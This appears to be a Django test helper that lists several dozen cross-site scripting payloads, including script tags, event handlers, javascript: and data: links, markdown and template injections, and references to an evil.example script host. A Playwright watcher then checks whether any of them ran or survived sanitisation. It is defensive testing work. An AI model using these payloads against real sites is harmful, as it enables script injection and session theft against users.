"""Texts that would run if a page let them, and a page that notices."""

from typing import Any

from django.test import Client

from tests import make

RUN = "window.__ran=1;alert(1)"
ELEMENTS = [
    f"<script>{RUN}</script>",
    f"<ScRiPt>{RUN}</sCrIpT>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"</script><script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"</style><script>{RUN}</script>",
    f"</noscript><script>{RUN}</script>",
    f"<!--><script>{RUN}</script>-->",
    f"]]><script>{RUN}</script>",
    f'"><script>{RUN}</script>',
    f"'><script>{RUN}</script>",
    f"<svg><script>{RUN}</script></svg>",
    f"<math><mtext></mtext><script>{RUN}</script></math>",
    f"<template><script>{RUN}</script></template>",
    f"<style><img src='</style><img src=x onerror={RUN}>'>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<iframe src='javascript:parent.{RUN}'></iframe>",
    f"<object data='javascript:{RUN}'></object>",
    f"<embed src='javascript:{RUN}'>",
    f"<form action='javascript:{RUN}'><button autofocus>x</button></form>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
    "<base href='https://evil.example/'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<script src='https://evil.example/x.js'></script>",
    f"<a href='javascript:{RUN}'>x</a>",
    f"<a href='java\tscript:{RUN}'>x</a>",
    f"<a href='&#106;avascript:{RUN}'>x</a>",
    f"<a href='data:text/html,<script>{RUN}</script>'>x</a>",
]
HANDLERS = [
    f"<{element} {event}='{RUN}'>"
    for element, event in (
        ("img src=x", "onerror"),
        ("svg", "onload"),
        ("body", "onload"),
        ("input autofocus", "onfocus"),
        ("details open", "ontoggle"),
        ("video src=x", "onerror"),
        ("audio src=x", "onerror"),
        ("marquee", "onstart"),
        ("select autofocus", "onfocus"),
        ("div style='animation:x 1s'", "onanimationstart"),
        ("svg><animate", "onbegin"),
        ("p contenteditable autofocus", "onfocus"),
    )
]
ATTRIBUTES = [f'" autofocus onfocus="{RUN}', f"' onmouseover='{RUN}", f"` onload=`{RUN}"]
MARKDOWN = [
    f"[x](javascript:{RUN})",
    f"[x](JaVaScRiPt:{RUN})",
    f"![x](javascript:{RUN})",
    f"<javascript:{RUN}>",
    f"[x][y]\n\n[y]: javascript:{RUN}",
    f'![x](x "\\" onerror=\\"{RUN}")',
    f"[x](data:text/html;base64,{RUN})",
    f"``` <img src=x onerror={RUN}> ```",
]
TEMPLATES = [
    "{{7*7}}{% load x %}",
    "${alert(1)}",
    "\\u003cscript\\u003e",
    "%3Cscript%3E",
    "&lt;script&gt;",
]
PAYLOADS = ELEMENTS + HANDLERS + ATTRIBUTES + MARKDOWN + TEMPLATES
ALL = "\n\n".join(PAYLOADS)


class Watch:
    """A page that notes what ran, what asked, and what the policy had to stop."""

    def __init__(self, context: Any) -> None:
        self.page, self.seen = context.new_page(), []
        self.page.on("dialog", lambda dialog: (self.seen.append("dialog"), dialog.dismiss()))
        self.page.on("console", self.heard)

    def heard(self, message: Any) -> None:
        if "Content Security Policy" in message.text:
            self.seen.append(message.text[:200])

    def visit(self, address: str) -> list[tuple[str, str]]:
        answer = self.page.goto(address, wait_until="load")
        assert answer.status < 500, address
        return self.judged(address)

    def judged(self, what: str) -> list[tuple[str, str]]:
        """What happened since the last page was judged, with what stands on this one."""
        if self.page.evaluate("window.__ran"):
            self.seen.append("it ran")
        links = self.page.evaluate(
            "[...document.querySelectorAll('a,area,form,iframe,base')].map(e => "
            "e.href?.baseVal ?? e.href ?? e.action ?? e.src)"
        )
        self.seen += [
            link for link in links if str(link).lower().startswith(("javascript", "data"))
        ]
        found = [(what, seen) for seen in self.seen]
        self.seen.clear()
        return found


def at_the_desk(chromium: Any, server: Any, client: Client) -> Any:
    """A browser that is signed in as the client is."""
    context = chromium.new_context(locale="en")
    cookie = {"name": "sessionid", "value": client.cookies["sessionid"].value, "url": server.url}
    context.add_cookies([cookie])
    return context


def administrator() -> Client:
    client = Client()
    client.force_login(make.user("Administrator"))
    return client
